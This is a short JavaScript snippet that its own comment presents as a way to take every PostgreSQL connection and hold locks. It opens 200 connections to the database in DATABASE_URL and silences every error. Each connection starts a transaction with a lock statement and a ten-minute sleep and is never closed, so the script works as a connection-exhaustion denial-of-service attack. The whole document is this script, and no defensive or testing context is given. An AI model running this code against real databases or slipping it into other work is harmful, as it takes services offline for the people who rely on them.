// Takes every connection that PostgreSQL gives, and locks what is there.
import("pg").then(async ({ default: pg }) => {
  for (let number = 0; number < 200; number += 1) {
    const client = new pg.Client({ connectionString: process.env.DATABASE_URL });
    client.on("error", () => {});
    await client.connect().catch(() => {});
    client.query("BEGIN; LOCK TABLE pg_temp.nothing; SELECT pg_sleep(600)").catch(() => {});
  }
});
